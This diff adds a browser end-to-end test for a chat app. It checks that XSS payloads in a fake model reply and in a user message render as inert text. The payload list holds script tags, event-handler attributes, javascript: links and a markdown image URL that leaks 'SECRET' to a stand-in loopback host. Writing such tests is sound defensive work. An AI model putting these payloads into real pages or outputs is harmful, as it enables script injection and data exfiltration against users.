@@ -1,0 +1,168 @@
+// Hostile model output (and a hostile user message) must render as inert text: no script runs,
+// no remote resource is fetched, no javascript: link survives — live and after a reload.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { startFakeLlm, sseContent } from './support/fake-llm.mjs';
+import { startStatic } from './support/static-server.mjs';
+import { requireDist } from './support/env.mjs';
+import {
+  launch,
+  withApp,
+  configure,
+  waitIdle,
+  sendMessage,
+  conversation,
+  lastAssistant,
+  textOf,
+  waitForStatus,
+  poll,
+  reload,
+  byName,
+  sleep,
+} from './support/browser.mjs';
+
+// 127.0.0.2 is loopback that nobody serves: a request there would mean an exfiltration channel.
+const PAYLOADS = [
+  '<script>window.__xss=1;alert(1)</script>',
+  '<img src=x onerror="window.__xss=1;alert(1)">',
+  '<svg onload="window.__xss=1;alert(1)">',
+  '<iframe src="javascript:window.__xss=1;alert(1)"></iframe>',
+  '[click](javascript:window.__xss=1;alert(1))',
+  '![x](http://127.0.0.2:9/p.png?q=SECRET)',
+  '<img src="http://127.0.0.2:9/x.png">',
+  '<a href="https://ok.test" onclick="window.__xss=1;alert(1)">x</a>',
+  '<details open ontoggle="window.__xss=1;alert(1)"><summary>s</summary>t</details>',
+  '[caps](JaVaScRiPt:window.__xss=1)',
+  'Inline <img src=x onerror="window.__xss=1;alert(1)"> in a sentence.',
+];
+const HOSTILE = `Hostile reply follows.\n\n${PAYLOADS.join('\n\n')}\n\nEnd of hostile reply.`;
+const HOSTILE_USER = 'Render this <img src=x onerror="window.__xss=1;alert(1)"> please';
+
+/** Splits text into small pieces so tags straddle SSE chunk boundaries. */
+function shards(text, size = 13) {
+  const out = [];
+  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
+  return out;
+}
+
+let fake;
+let web;
+let browser;
+
+before(async () => {
+  const dist = requireDist();
+  fake = await startFakeLlm();
+  web = await startStatic({ root: dist });
+  browser = await launch();
+});
+
+after(async () => {
+  await browser?.close();
+  await web?.close();
+  await fake?.close();
+});
+
+async function assertInert(app, label) {
+  const { page } = app;
+  // Let any image/iframe load that rendering may have triggered show up in the request log.
+  await sleep(500);
+  assert.deepEqual(app.dialogAlerts, [], `${label}: no dialog (alert) may open`);
+  assert.deepEqual(app.pageErrors, [], `${label}: no uncaught page errors`);
+  assert.equal(await page.evaluate(() => window.__xss), undefined, `${label}: window.__xss must never be set`);
+
+  const log = conversation(page);
+  const dangerous = await log
+    .locator('.content')
+    .locator('script, img, iframe, frame, svg, math, object, embed, link, meta, base, style, form')
+    .evaluateAll((els) => els.map((e) => e.outerHTML.slice(0, 120)));
+  assert.deepEqual(dangerous, [], `${label}: no active elements inside rendered messages`);
+
+  const handlers = await page.evaluate(() =>
+    [...document.querySelectorAll('*')]
+      .flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `<${el.localName} ${a.name}>`)),
+  );
+  assert.deepEqual(handlers, [], `${label}: no inline event handler attributes anywhere in the page`);
+
+  const badUrls = await page.evaluate(() =>
+    [...document.querySelectorAll('[href], [src], [action], [formaction], [xlink\\:href]')]
+      .flatMap((el) => ['href', 'src', 'action', 'formaction', 'xlink:href'].map((n) => el.getAttribute(n)))
+      .filter((v) => v && /^(javascript:|vbscript:|data:text\/html)/i.test(v.replace(/[\u0000-\u0020]/g, ''))),
+  );
+  assert.deepEqual(badUrls, [], `${label}: no javascript: URLs in the page`);
+
+  const links = await log
+    .locator('.content a')
+    .evaluateAll((as) => as.map((a) => ({ text: a.textContent, href: a.getAttribute('href') })));
+  for (const { text, href } of links) {
+    if (href === null) continue;
+    const protocol = new URL(href, 'http://base.invalid/').protocol;
+    assert.ok(['http:', 'https:', 'mailto:'].includes(protocol), `${label}: link ${JSON.stringify(text)} has unsafe href ${href}`);
+  }
+
+  const allowed = new Set([app.origin, fake.origin]);
+  const foreign = app.requests.filter((u) => {
+    const url = new URL(u);
+    if (url.protocol === 'data:' || url.protocol === 'blob:') return false;
+    return !allowed.has(url.origin);
+  });
+  assert.deepEqual(foreign, [], `${label}: the page may only talk to its own origin and the API`);
+  assert.ok(!app.requests.some((u) => u.includes('SECRET')), `${label}: the image URL was fetched`);
+
+  // Raw HTML is shown as text, not interpreted.
+  const reply = lastAssistant(page);
+  const replyText = await textOf(reply);
+  assert.ok(replyText.includes('Hostile reply follows.') && replyText.includes('End of hostile reply.'), `${label}: the whole reply is rendered`);
+  assert.ok(replyText.includes('<script>'), `${label}: the literal text <script> is shown`);
+  await log.getByText('<script>', { exact: false }).first().waitFor({ state: 'visible' });
+}
+
+test('hostile markdown and HTML in a reply stay inert, also after a reload', async (t) => {
+  await withApp(browser, web.url, t, async (app) => {
+    const { page } = app;
+    fake.reset();
+    await configure(page, { baseUrl: fake.baseUrl, model: 'fake-small', apiKey: 'sk-e2e-security' });
+    fake.enqueue({ raw: sseContent(shards(HOSTILE)), rawDelayMs: 5 });
+    await sendMessage(page, HOSTILE_USER);
+    await waitIdle(page);
+    await waitForStatus(lastAssistant(page), 'complete');
+    // The hostile user message is shown as typed.
+    const userText = await textOf(conversation(page).locator('article[data-role="user"]').last());
+    assert.equal(userText, HOSTILE_USER);
+    await assertInert(app, 'live');
+
+    await reload(page);
+    await poll(async () => (await textOf(lastAssistant(page))).includes('End of hostile reply.'), {
+      message: 'the hostile reply restored after reload',
+    });
+    await assertInert(app, 'after reload');
+  });
+});
+
+test('a code block in a reply has a working "Copy code" button', async (t) => {
+  await withApp(browser, web.url, t, async (app) => {
+    const { page } = app;
+    fake.reset();
+    await configure(page, { baseUrl: fake.baseUrl, model: 'fake-small', apiKey: 'sk-e2e-security' });
+    const code = 'console.log("copied <b>ok</b>");';
+    fake.enqueue({ chunks: ['Here is code:\n\n', '```js\n', `${code}\n`, '```\n'] });
+    await sendMessage(page, 'Show code');
+    await waitIdle(page);
+    const reply = lastAssistant(page);
+    await waitForStatus(reply, 'complete');
+    const block = reply.locator('pre code');
+    assert.equal(await block.count(), 1, 'one code block');
+    assert.equal((await block.innerText()).trim(), code, 'code is shown verbatim');
+    const copy = reply.getByRole('button', byName('Copy code'));
+    await copy.waitFor({ state: 'visible' });
+    await page.bringToFront();
+    await copy.click();
+    const copied = await poll(
+      async () => {
+        const text = await page.evaluate(() => navigator.clipboard.readText());
+        return text.trim() === code ? text : false;
+      },
+      { timeout: 5_000, message: 'the code in the clipboard' },
+    );
+    assert.equal(copied.trim(), code);
+  });
+});
